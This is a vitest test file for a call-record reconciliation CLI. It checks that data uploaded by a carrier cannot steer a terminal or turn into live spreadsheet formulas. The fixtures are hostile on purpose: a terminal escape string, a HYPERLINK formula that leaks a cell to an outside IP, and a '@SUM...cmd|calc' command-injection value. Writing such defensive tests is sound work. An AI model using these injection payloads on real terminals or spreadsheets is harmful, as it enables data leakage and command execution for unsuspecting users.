import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readCsvCell } from "../../src/cli/shared/csv-cells.ts";
import { DurationService } from "../../src/gen/tandem/carrier/v1/duration_service_pb.js";
import { CallDetailRecordSchema } from "../../src/gen/tandem/type/v1/call_detail_record_pb.js";
import { runCli } from "../support/cli.ts";
import { type Exchange, startExchange } from "../support/exchange.ts";
import { call, ingest, NUMBER, timestamp } from "../support/feed.ts";
import { plant } from "../support/planted-texts.ts";
import { reconcileFully } from "../support/reconcile.ts";
import { fullCdr, sampleDuration } from "../support/record-samples.ts";

const CARRIER = "hostile";
/** Clears the screen, writes a line of its own, moves, hides and turns what follows. */
const STEERING = "\u001b[2J\r\nfake\u009b1m\u202e\u200b\u2028\u007f";
const FORMULA = '=HYPERLINK("http://203.0.113.9/?q="&A1,"open")';
const HOUR_MS = 3_600_000;
const START = Date.now() - 3 * HOUR_MS;
const DAY = new Date(START).toISOString().slice(0, 10);
const SAFE = /[^\n\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu;

let exchange: Exchange;
let asPlatform: Record<string, string>;
let asCarrier: Record<string, string>;

beforeAll(async () => {
  exchange = await startExchange();
  await exchange.addCarrier(CARRIER);
  await exchange.assignNumbers(CARRIER, [NUMBER], "cedar-bank");
  await ingest(exchange, CARRIER, [hostileCdr()]);
  const durations = await exchange.carrierClient(DurationService, CARRIER);
  const answer = await durations.appendDurations({
    uploadId: "hostile-1",
    records: [duration(FORMULA), duration("bad", { direction: 0 })],
  });
  expect(answer.outcomes.map(({ message }) => message)).toHaveLength(1);
  await reconcileFully(exchange.services.db, CARRIER, { nowMs: Date.now() + 48 * HOUR_MS });
  const settings = { TANDEM_URL: exchange.url };
  asPlatform = { ...settings, TANDEM_TOKEN: await exchange.platformToken() };
  asCarrier = { ...settings, TANDEM_TOKEN: await exchange.carrierToken(CARRIER) };
});
afterAll(() => exchange[Symbol.asyncDispose]());

const PERIOD = ["--from", "1d", "--to", "now"];
const COMMANDS: readonly (readonly [string, "carrier" | "platform", readonly string[]])[] = [
  ["the platform explains the call", "platform", ["reconcile", "explain", "call-hostile"]],
  ["the platform lists what disagrees", "platform", ["reconcile", "list", "--carrier", CARRIER]],
  ["the platform sums it up by trunk", "platform", ["reconcile", "summary", "--carrier", CARRIER, "--by", "trunk"]],
  ["the carrier lists its records", "carrier", ["cdrs", "list", ...PERIOD]],
  ["the carrier follows its feed", "carrier", ["cdrs", "follow", "--from", "earliest", "--until", "head"]],
  ["the carrier gets one", "carrier", ["cdrs", "get", "hostile"]],
  ["the carrier lists its durations", "carrier", ["durations", "list", ...PERIOD]],
  ["the carrier asks what was refused", "carrier", ["durations", "rejects", "hostile-1"]],
];

describe("what another company uploads steers no terminal", () => {
  test.each(COMMANDS)("when %s", async (_, role, args) => {
    for (const format of [[], ["--json"]]) {
      const { code, stdout, stderr } = await runCli([...args, ...format], role === "carrier" ? asCarrier : asPlatform);
      expect(code, stderr).toBe(0);
      expect(stdout.length).toBeGreaterThan(10);
      for (const text of [stdout, stderr]) {
        expect(
          [...text.replaceAll(SAFE, "")].filter((character) => character !== "\n"),
          JSON.stringify(text),
        ).toEqual([]);
        expect(
          text.split("\n").some((line) => line.startsWith("fake")),
          text,
        ).toBe(false);
      }
    }
  });

  test("JSON for a terminal is the same JSON to a program", async () => {
    const { stdout } = await runCli(["cdrs", "get", "hostile", "--json"], asCarrier);
    const { records } = JSON.parse(stdout) as { records: { outcome: { reasonPhrase: string } }[] };
    expect(records[0]?.outcome.reasonPhrase).toBe(STEERING);
  });

  test("nor does the error of a server", async () => {
    const { stderr, code } = await runCli(["cdrs", "get", `no\u009b1m\u202esuch`], asCarrier);
    expect(code).toBe(1);
    expect(stderr).toContain("RECORD_NOT_FOUND");
    expect([...stderr.replaceAll(SAFE, "")].filter((character) => character !== "\n")).toEqual([]);
  });
});

test("a formula that a carrier uploads is text in the platform's spreadsheet, and is read back as it was (case 20)", async () => {
  const export_ = [
    "privacy",
    "export",
    NUMBER,
    "--from",
    "2d",
    "--to",
    "1m",
    "--role",
    "subscriber",
    "--case",
    "c",
    "--verified-by",
    "desk",
  ];
  for (const args of [["reconcile", "list", "--carrier", CARRIER], export_]) {
    const { stdout, stderr, code } = await runCli([...args, "--csv"], asPlatform);
    expect(code, stderr).toBe(0);
    const rows = parse(stdout, { relax_column_count: true }) as string[][];
    const cells = rows.flat();
    expect(cells.map(readCsvCell)).toContain(FORMULA);
    for (const cell of cells) expect(/^[\s'"]*[=@]/.test(cell) && !cell.startsWith("'"), cell).toBe(false);
    expect([...stdout.replaceAll(SAFE, "")].filter((character) => character !== "\n")).toEqual([]);
  }
});

function hostileCdr() {
  const { correlation, route, outcome } = fullCdr();
  const record = call(
    "hostile",
    { correlation, route, outcome: { ...outcome, finalSipCode: 200, failureStage: 0 } } as Parameters<typeof call>[1],
    START,
  );
  plant(CallDetailRecordSchema, record, [STEERING]);
  return record;
}

function duration(recordId: string, changes: Parameters<typeof sampleDuration>[0] = {}) {
  return sampleDuration({
    recordId,
    recordDate: DAY,
    calling: { kind: 1, value: NUMBER },
    inviteTime: timestamp(START),
    answerTime: timestamp(START + 5_000),
    endTime: timestamp(START + 95_000),
    connectedDurationMs: 90_000n,
    trunkId: `@SUM(1+1)*cmd|calc${STEERING}`,
    customerReference: STEERING,
    ...changes,
  });
}
